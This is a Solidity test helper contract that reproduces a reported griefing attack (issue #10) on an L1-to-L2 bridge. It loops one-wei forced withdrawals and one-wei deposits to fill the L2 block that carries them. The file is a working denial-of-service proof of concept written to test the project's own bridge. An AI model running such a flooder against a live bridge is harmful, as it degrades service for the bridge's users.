// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IL1Bridge} from "../../../contracts/src/interfaces/IL1Bridge.sol";

/// @title DepositFlooder
/// @notice Test helper: the griefing attack of issue #10 in one transaction. Forced withdrawals
///         of 1 wei from an L2 account with nothing in it (this contract's alias) and one-wei
///         deposits, as many as the bridge takes, to fill the L2 block that carries them.
contract DepositFlooder {
    /// @notice Calls `withdrawETH(1)` `withdrawals` times, then `depositETH` with 1 wei
    ///         `deposits` times (msg.value must cover them), skipping the calls the bridge
    ///         refuses.
    /// @return accepted How many calls the bridge took.
    function flood(IL1Bridge bridge, uint256 withdrawals, uint256 deposits) external payable returns (uint256 accepted) {
        for (uint256 i; i < withdrawals; ++i) {
            try bridge.withdrawETH(1) {
                ++accepted;
            } catch {}
        }
        for (uint256 i; i < deposits; ++i) {
            try bridge.depositETH{value: 1}() {
                ++accepted;
            } catch {}
        }
    }
}
